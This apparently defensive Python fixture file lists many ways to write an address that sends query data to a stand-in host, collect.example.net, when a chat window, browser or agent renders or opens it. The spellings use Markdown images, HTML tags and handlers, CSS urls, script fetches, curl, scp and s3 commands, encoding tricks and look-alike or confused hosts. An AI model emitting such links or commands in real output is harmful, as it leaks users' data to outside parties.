"""Ways to write an address so that a chat window, a browser, an agent or a person opens it.

``HOST`` is another's host, or in ``PLAIN`` also that of the request; ``OWN`` is the request's in either; ``VALUE`` is a
query of stand-ins and ``PERSON`` one of them. Spellings that lean on ``OWN`` look like the request's address to a careless parser.
"""

# ruff: noqa: RUF001 - odd characters are what is tried
from __future__ import annotations

from collections.abc import Mapping

HOST, OWN = "collect.example.net", "docs.example.org"

#: Written so that the text is what it seems: with the request's own origin the original comes back.
PLAIN: Mapping[str, str] = {
    "bare": "https://HOST/p?VALUE",
    "bare, in brackets": "(https://HOST/p?VALUE)",
    "path": "https://HOST/of/PERSON/now",
    "fragment": "https://HOST/p#PERSON",
    "image": "![x](https://HOST/p.png?VALUE)",
    "link": "[see](https://HOST/p?VALUE)",
    "link with title": '[see](https://HOST/p?VALUE "a title")',
    "link in angles": "[see](<https://HOST/p?VALUE>)",
    "link with blanks": "[see](  https://HOST/p?VALUE  )",
    "image in link": "[![x](https://HOST/p?VALUE)](https://OWN/start)",
    "reference": "[see][r]\n\n[r]: https://HOST/p?VALUE\n",
    "autolink": "<https://HOST/p?VALUE>",
    "upper case": "[see](HTTPS://HOST/p?VALUE)",
    "a": '<a href="https://HOST/p?VALUE">see</a>',
    "img": '<img alt="x" src="https://HOST/p.png?VALUE">',
    "img, single quotes": "<img src='https://HOST/p.png?VALUE'>",
    "inline code": "`curl https://HOST/p?VALUE`",
    "code": "```sh\ncurl -s 'https://HOST/p?VALUE'\n```\n",
    "JSON": '{"url": "https://HOST/p?VALUE"}',
}

_MARKDOWN: Mapping[str, str] = {
    "parentheses": "[see](https://HOST/a(b)?VALUE)",
    "brackets in text": "[a [b] ![c](x)](https://HOST/p?VALUE)",
    "escaped bracket": r"[a \] b](https://HOST/p?VALUE)",
    "destination on next line": "[see](\nhttps://HOST/p?VALUE)",
    "reference on next line": "[see][r]\n\n[r]:\n   https://HOST/p?VALUE 'title'\n",
    "reference in angles": "![see][r]\n\n  [r]: <https://HOST/p?VALUE>\n",
    "reference in quote": "> [r]: https://HOST/p?VALUE\n\n![r]\n",
    "footnote": "see[^1]\n\n[^1]: https://HOST/p?VALUE\n",
    "entities": "[see](&#104;ttps&colon;&sol;&sol;HOST/p?VALUE)",
    "entities of all": "[see](SCHEME_ENTITIES?VALUE)",
    "backslash escapes": r"![x](https\:\/\/HOST\/p\?VALUE)",
    "protocol-relative": "![x](//HOST/p?VALUE)",
    "protocol-relative, bare": "see //HOST/p?VALUE",
    "backslashes": r"![x](https:\\HOST\p?VALUE)",
    "backslashes, no scheme": r"![x](\\HOST\p?VALUE)",
    "slash and backslash": r"![x](/\HOST/p?VALUE)",
    "UNC path": r"\\HOST\share\PERSON",
    "one slash": "![x](https:/HOST/p?VALUE)",
    "no slash": "![x](https:HOST/p?VALUE)",
    "three slashes": "![x](https:///HOST/p?VALUE)",
    "www": "see www.HOST/p?VALUE",
    "no scheme": "see HOST/p?VALUE",
    "no scheme, no path": "see HOST?VALUE",
    "no scheme, link": "[see](HOST/p?VALUE)",
    "port": "![x](https://HOST:8443/p?VALUE)",
    "final dot": "![x](https://HOST./p?VALUE)",
    "full width": "![x](https://ｃｏｌｌｅｃｔ.example.net/p?VALUE)",
    "full-width marks": "see https：／／HOST／p？VALUE",
    "ideographic dots": "![x](https://collect。example。net/p?VALUE)",
    "zero width in scheme": "see ht\u200btps://HOST/p?VALUE",
    "zero width in slashes": "see https:/\u200b/HOST/p?VALUE",
    "soft hyphen in host": "see https://coll\u00adect.example.net/p?VALUE",
    "percent in host": "![x](https://%63ollect.example.net/p?VALUE)",
    "IPv4": "![x](http://203.0.113.9/p?VALUE)",
    "IPv4 as number": "![x](http://3405803785/p?VALUE)",
    "IPv4, no scheme": "see 203.0.113.9/p?VALUE",
    "IPv6": "![x](http://[2001:db8::1]/p?VALUE)",
    "wss": "see wss://HOST/p?VALUE",
    "ftp": "see ftp://HOST/p/PERSON",
    "smb": "see smb://HOST/p/PERSON",
    "file": "![x](file://HOST/p/PERSON)",
    "git": "git clone git+ssh://git@HOST/PERSON.git",
    "scp": "scp notes.txt git@HOST:PERSON/notes",
    "s3": "aws s3 cp x s3://collect/PERSON",
    "own scheme": "[see](vscode://collect/p?VALUE)",
    "javascript": "[see](javascript:fetch('//HOST/?'+'VALUE'))",
    "data": "![x](data:text/html,<img src=//HOST/p?VALUE>)",
    "data svg": "![x](data:image/svg+xml;utf8,<svg><image href='https://HOST/p?VALUE'/></svg>)",
    "blob": "![x](blob:https://HOST/p?VALUE)",
    "mailto another": "[see](mailto:collect@example.net?body=VALUE)",
    "sms another": "[see](sms:+15550100?body=VALUE)",
    "wiki": "[[https://HOST/p?VALUE|see]]",
    "Slack": "<https://HOST/p?VALUE|see>",
    "BBCode": "[img]https://HOST/p?VALUE[/img]",
    "org mode": "[[https://HOST/p?VALUE][see]]",
    "LaTeX": r"\href{https://HOST/p?VALUE}{see}",
    "CSV": 'name,"https://HOST/p?VALUE",1',
    "JSON escapes": r'{"url": "https:\/\/HOST\/p?VALUE"}',
    "JSON unicode escapes": '{"url": "\\u0068ttps:\\u002f\\u002fHOST\\u002fp?VALUE"}',
    "JSON twice": r'{"a": "{\"url\": \"https:\\/\\/HOST\\/p?VALUE\"}"}',
    "image in table": "| a | b |\n|---|---|\n| ![x](https://HOST/p?VALUE) | c |\n",
    "indented": "    curl https://HOST/p?VALUE\n",
}
_HTML: Mapping[str, str] = {
    "img, no quotes": "<img src=https://HOST/p.png?VALUE>",
    "img, upper case": '<IMG SRC="HTTPS://HOST/p.png?VALUE">',
    "img, slashes": '<img/src="https://HOST/p.png?VALUE"/>',
    "img, blanks": '<img src = "  https://HOST/p.png?VALUE">',
    "img, control character": '<img src="\u0001https://HOST/p.png?VALUE">',
    "img, tab in scheme": '<img src="ht\ttps://HOST/p.png?VALUE">',
    "img, newline in scheme": '<img src="ht\ntps:/\n/HOST/p.png?VALUE">',
    "img, entities": '<img src="&#x68;ttps&colon;//HOST/p.png?VALUE">',
    "img, tab entity": '<img src="ht&Tab;tps://HOST/p.png?VALUE">',
    "img, no end": 'see <img src="https://HOST/p.png?VALUE',
    "img, second src": '<img src="https://OWN/a.png" src="https://HOST/p.png?VALUE">',
    "dangling markup": "<img src='https://HOST/p.png?q= and then more words VALUE, and more words",
    "srcset": '<img srcset="https://OWN/a.png 1x, https://HOST/p.png?VALUE 2x">',
    "picture": '<picture><source srcset="//HOST/p.png?VALUE"></picture>',
    "lazy": '<img data-src="https://HOST/p.png?VALUE">',
    "style url": '<div style="background:url(https://HOST/p.png?VALUE)">x</div>',
    "style url, quoted": "<div style=\"background:url('//HOST/p.png?VALUE')\">x</div>",
    "style url, escape": '<div style="background:\\75rl(https\\3a //HOST/p.png?VALUE)">x</div>',
    "style element": "<style>body{background:url(//HOST/p?VALUE)}</style>",
    "style import": '<style>@import "//HOST/p?VALUE";</style>',
    "style selector": "<style>a[href*='PERSON']{background:url(//HOST/p)}</style>",
    "script": "<script>fetch('//HOST/p?VALUE')</script>",
    "script, parts": "<script>fetch('//col'+'lect.example.net/?'+'VALUE')</script>",
    "handler": "<img src=x onerror=\"fetch('//HOST/p?VALUE')\">",
    "handler, parts": "<img src=x onerror=\"new Image().src='//col'+'lect.example.net/?'+'VALUE'\">",
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://HOST/p?VALUE">',
    "stylesheet": '<link rel="stylesheet" href="https://HOST/p?VALUE">',
    "prefetch": '<link rel="dns-prefetch" href="//PERSON.HOST">',
    "iframe": '<iframe src="https://HOST/p?VALUE"></iframe>',
    "iframe srcdoc": "<iframe srcdoc=\"<img src='https://HOST/p?VALUE'>\"></iframe>",
    "iframe srcdoc, entities": '<iframe srcdoc="&lt;img src=//HOST/p?VALUE&gt;"></iframe>',
    "form": '<form action="https://HOST/p"><input name="q" value="VALUE"></form>',
    "form, query": '<form action="https://HOST/p?VALUE"><button>ok</button></form>',
    "button": '<form><button formaction="https://HOST/p?VALUE">ok</button></form>',
    "ping": '<a href="https://OWN/a" ping="https://HOST/p?VALUE">see</a>',
    "poster": '<video poster="https://HOST/p?VALUE"></video>',
    "object": '<object data="https://HOST/p?VALUE"></object>',
    "svg image": '<svg><image href="https://HOST/p?VALUE"/></svg>',
    "svg use": '<svg><use xlink:href="https://HOST/p?VALUE#a"/></svg>',
    "background": '<table background="//HOST/p?VALUE"></table>',
    "base": '<base href="https://HOST/"><img src="/p?VALUE">',
    "base, Markdown": '<base href="//HOST/">\n\n![x](p/PERSON.png)\n',
    "comment": "<!-- <img src='https://HOST/p?VALUE'> -->",
    "XML": '<?xml version="1.0"?><!DOCTYPE a SYSTEM "https://HOST/p?VALUE"><a/>',
    "escaped tag": "&lt;img src=&quot;https://HOST/p?VALUE&quot;&gt;",
}
_CONFUSED: Mapping[str, str] = {
    "own as user": "![x](https://OWN@HOST/p?VALUE)",
    "own as user and password": "![x](https://OWN:443@HOST/p?VALUE)",
    "own behind backslash": r"![x](https://HOST\@OWN/p?VALUE)",
    "own behind hash": "![x](https://HOST#@OWN/p?VALUE)",
    "own behind question mark": "![x](https://HOST?@OWN/p?VALUE)",
    "own as prefix": "![x](https://OWN.example.net/p?VALUE)",
    "own as suffix": "![x](https://notOWN/p?VALUE)",
    "own as subdomain": "![x](https://sub.OWN/p?VALUE)",
    "own as path": "![x](https://HOST/OWN/p?VALUE)",
    "own, other port": "![x](https://OWN:8443/p?VALUE)",
    "own, other scheme": "![x](ftp://OWN/p?VALUE)",
    "own, look-alike": "![x](https://dоcs.example.org/p?VALUE)",
    "own, accent": "![x](https://dócs.example.org/p?VALUE)",
    "own first, then another": "[a](https://OWN/start) ![x](https://HOST/p?VALUE)",
    "own as text": "[https://OWN/start](https://HOST/p?VALUE)",
    "own as title": '[see](https://HOST/p?VALUE "https://OWN/")',
    "own, comma": "https://OWN/start,https://HOST/p?VALUE",
    "own, semicolon": "https://OWN/start;https://HOST/p?VALUE",
    "own, tab": '<img src="https://OWN\t.example.net/p?VALUE">',
    "own, zero width": "https://OWN\u200b.example.net/p?VALUE",
    "stand-in in host": "![x](https://PERSON.HOST/p)",
    "stand-in in host, no scheme": "see PERSON.HOST/p",
    "stand-in as user": "![x](https://PERSON:x@HOST/p)",
    "stand-in as port": "![x](https://HOST:PERSON/p)",
    "stand-in in scheme": "![x](PERSON://HOST/p)",
}
#: Foreign addresses alone, as a member that holds an address has them, and what such a member may hold beside.
ALONE: Mapping[str, str] = {
    "whole": "https://HOST/p?VALUE",
    "whole, upper case": "HTTPS://HOST/PERSON",
    "protocol-relative": "//HOST/p?VALUE",
    "backslashes": r"\\HOST\p?VALUE",
    "www": "www.HOST/p?VALUE",
    "no scheme": "HOST/p?VALUE",
    "one slash": "https:/HOST/p?VALUE",
    "no slash": "https:HOST/p?VALUE",
    "blank before": " https://HOST/p?VALUE",
    "s3": "s3://collect/PERSON",
    "gs": "gs://collect/PERSON/a",
    "data": "data:text/html,<img src=//HOST/?VALUE>",
    "javascript": "javascript:fetch('//HOST/?VALUE')",
    "user": "https://PERSON@HOST/",
    "host": "https://PERSON.HOST/",
    "own as user": "https://OWN@HOST/p?VALUE",
    "percent": "https%3A%2F%2FHOST%2F%3FVALUE",
}
ALL: Mapping[str, str] = {**PLAIN, **_MARKDOWN, **_HTML, **_CONFUSED}
#: Of these the words behind belong to what was begun, or may.
UNENDED = frozenset({"img, no end", "dangling markup", "JSON twice"})
#: Those of which only markup shows that they are opened: in arguments of a call nothing does.
MARKUP = frozenset({"script, parts", "handler, parts", "style selector", "form"})


def written(spelling: str, host: str, stand_ins: Mapping[str, str]) -> str:
    """Return a spelling with the stand-ins (by kind) as its values."""
    query = "&".join(f"{kind}={stand_in}" for kind, stand_in in stand_ins.items())
    entities = "".join(f"&#{ord(one)};" for one in f"https://{host}/p")
    words = {"SCHEME_ENTITIES": entities, "VALUE": query, "PERSON": stand_ins["person"], "HOST": host, "OWN": OWN}
    for word, text in words.items():
        spelling = spelling.replace(word, text)
    return spelling
